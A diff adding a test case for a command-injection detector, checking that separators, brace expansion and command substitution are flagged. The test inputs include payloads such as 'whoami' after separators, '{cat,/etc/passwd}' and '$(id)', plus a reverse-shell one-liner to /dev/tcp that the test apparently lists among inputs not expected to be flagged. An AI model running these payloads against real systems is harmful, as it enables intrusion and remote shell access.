@@ -13,3 +13,10 @@ test('cmdi: a separator followed by a command; English words only with shell-lik
     'Mozilla/5.0 (X11; Linux x86_64)', 'a=1; b=2', 'R&D; echo chamber', 'Q&A', 'cats; dogs; birds',
   ]);
 });
+
+test('cmdi: separators are found whether triggers are dense or far apart', () => {
+  expectDetector(detectCmdi, [
+    ['a;b;c;whoami', 'cmdi.separator'], ['Please read the notes below before you start; they are long and detailed, really; whoami', 'cmdi.separator'],
+    ['{{{{{cat,/etc/passwd}', 'cmdi.brace-expansion'], ['x\n\nid', 'cmdi.separator'], ['a$(id)', 'cmdi.substitution'],
+  ], ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'en-IE,en;q=0.9', 'bash -i >& /DEV/TCP/1.2.3.4/9 0>&1']);
+});
